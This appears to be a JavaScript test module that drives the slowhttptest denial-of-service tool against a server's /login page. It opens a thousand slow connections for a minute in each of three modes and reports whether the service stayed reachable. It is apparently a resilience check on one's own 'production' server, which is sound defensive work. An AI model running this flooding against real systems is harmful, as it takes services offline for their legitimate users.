// slowhttptest: a thousand slow connections, for a minute in each mode.
import { spawnSync } from 'node:child_process'
import { stripVTControlCharacters } from 'node:util'
import { attack } from './target.mjs'

export const title = 'L05 slowhttptest, a thousand connections'

const ways = { headers: '-H', body: '-B', ranges: '-R' }

/** Returns the ways in which the server was out of reach for others meanwhile. */
export function run() {
  return attack('production', ({ address }) =>
    Object.entries(ways).flatMap(([way, flag]) => {
      const load = ['-c', '1000', '-r', '200', '-i', '10', '-l', '60', '-p', '5']
      const done = spawnSync('slowhttptest', [flag, ...load, '-u', `${address}/login`], {
        encoding: 'utf8',
        maxBuffer: 1 << 26,
      })
      // The tool writes colours even without a terminal.
      const said = stripVTControlCharacters(done.stdout)
      const answers = [...said.matchAll(/service available: +(YES|NO)/g)].map(([, word]) => word)
      console.log(`${way}: asked ${answers.length} times`)
      const isThere = answers.length > 0 && !answers.includes('NO')
      return isThere ? [] : [`out of reach by slow ${way}: ${said.slice(-300)}`]
    }),
  )
}
